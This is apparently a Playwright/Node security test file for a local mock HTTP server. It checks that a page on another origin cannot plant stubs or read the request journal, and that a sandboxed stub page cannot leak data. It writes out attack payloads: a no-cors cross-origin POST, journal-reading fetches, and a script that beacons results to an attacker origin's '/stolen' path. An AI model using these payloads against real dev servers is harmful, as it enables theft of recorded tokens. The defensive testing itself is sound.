/**
 * Issue #21, item 1, in Chromium: a page on another origin tries the attack from the issue. It
 * POSTs a stub as a `no-cors` text/plain "simple" request, tries to read the journal, then
 * navigates to the stub's path; and a stub the developer planted with a script in it cannot read
 * /__mock/ either (its answer is a sandboxed document). Runs from two origins: 127.0.0.2 (cross-site)
 * and another port of 127.0.0.1 (same-site, as any local dev server is). Skipped, saying so, where
 * /usr/bin/chromium (CHROMIUM_PATH) is absent.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { chromium } from '@playwright/test';
import type { Browser } from '@playwright/test';
import { listen } from '../../contracts/testing/listen.js';
import { getJson, startMock } from './helpers.js';
import type { Mock } from './helpers.js';

const CHROMIUM_PATH = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const skip = existsSync(CHROMIUM_PATH) ? false : `Chromium not found at ${CHROMIUM_PATH} (set CHROMIUM_PATH)`;

/** The attacker's page: the exact requests of the issue, then what it could read, in document.title. */
function attackPage(mockOrigin: string): string {
  const stub = JSON.stringify({ path: '/x', headers: { 'content-type': 'text/html' }, body: '<script>document.title="planted"</script>' });
  return `<!doctype html><title>attacking</title><script>
(async () => {
  const results = {};
  try {
    await fetch(${JSON.stringify(`${mockOrigin}/__mock/stubs`)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(stub).replaceAll('<', '\\u003c')} });
    results.post = 'sent';
  } catch (error) { results.post = 'failed: ' + error.message; }
  for (const [name, mode] of [['cors', 'cors'], ['noCors', 'no-cors']]) {
    try {
      const response = await fetch(${JSON.stringify(`${mockOrigin}/__mock/requests`)}, { mode });
      results[name] = response.type + ':' + (await response.text()).length;
    } catch (error) { results[name] = 'failed'; }
  }
  document.title = 'done ' + JSON.stringify(results);
})();
</script>`;
}

describe('a page on another origin cannot plant a stub or read the journal (Chromium)', { skip }, () => {
  let mock: Mock;
  let browser: Browser;
  const attackers: { server: Server; origin: string; hits: string[] }[] = [];

  before(async () => {
    mock = await startMock();
    // A recorded request with a token-looking value: what the attacker is after.
    await fetch(`${mock.base}/orders`, { method: 'POST', headers: { 'x-my-jwt': 'secret.token.value' }, body: '{}' });
    for (const host of ['127.0.0.2', '127.0.0.1']) {
      const hits: string[] = [];
      const server = createServer((req, res) => {
        hits.push(req.url ?? '');
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackPage(mock.base));
      });
      const port = await listen(server, host);
      attackers.push({ server, origin: `http://${host}:${port}`, hits });
    }
    browser = await chromium.launch({
      executablePath: CHROMIUM_PATH,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
    });
  });
  after(async () => {
    await browser?.close();
    for (const { server } of attackers) await new Promise((resolve) => server.close(resolve));
    await mock?.close();
  });

  for (const [index, site] of [[0, 'cross-site (127.0.0.2)'], [1, 'same-site (127.0.0.1, another port)']] as const) {
    it(`from a ${site} page: the no-cors stub POST plants nothing, the journal is unreadable, /x is the echo`, async () => {
      const attacker = attackers[index];
      assert.ok(attacker);
      const page = await browser.newPage();
      try {
        await page.goto(`${attacker.origin}/`);
        await page.waitForFunction("document.title.startsWith('done ')", undefined, { timeout: 10_000 });
        const results = JSON.parse((await page.title()).slice('done '.length)) as Record<string, string>;
        assert.equal(results.post, 'sent', 'Chromium did send the request');
        assert.equal(results.cors, 'failed', 'a CORS read is blocked');
        assert.equal(results.noCors, 'opaque:0', 'a no-cors read is opaque');
        assert.deepEqual((await getJson<{ stubs: unknown[] }>(`${mock.base}/__mock/stubs`)).body.stubs, [], 'no stub planted');
        await page.goto(`${mock.base}/x`);
        assert.notEqual(await page.title(), 'planted');
        assert.match((await page.textContent('body')) ?? '', /"path":"\/x"/, 'the echo answered');
      } finally {
        await page.close();
      }
    });
  }

  it("a stub's own page cannot read /__mock/ even when the developer planted a script in it (CSP sandbox)", async () => {
    const attacker = attackers[0];
    assert.ok(attacker);
    const script = `var x = new XMLHttpRequest(); x.open('GET', '/__mock/requests', false);
      try { x.send(); document.title = 'read ' + x.responseText.length; } catch (e) { document.title = 'blocked'; }
      new Image().src = ${JSON.stringify(`${attacker.origin}/stolen?`)} + encodeURIComponent(document.title);`;
    const created = await getJson<{ id: string }>(`${mock.base}/__mock/stubs`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ path: '/trap', headers: { 'content-type': 'text/html' }, body: `<!doctype html><title>inert</title><p id="p">stub</p><script>${script}</script>` }),
    });
    assert.equal(created.status, 201);
    const page = await browser.newPage();
    try {
      // 'load' waits for every image the page started, so a beacon the script sent has arrived by then.
      await page.goto(`${mock.base}/trap`, { waitUntil: 'load' });
      assert.equal(await page.textContent('#p'), 'stub', 'the stub page rendered');
      assert.equal(await page.title(), 'inert', 'its script never ran');
      assert.deepEqual(attacker.hits.filter((url) => url.startsWith('/stolen')), []);
    } finally {
      await page.close();
      await fetch(`${mock.base}/__mock/stubs/${created.body.id}`, { method: 'DELETE' });
    }
  });
});
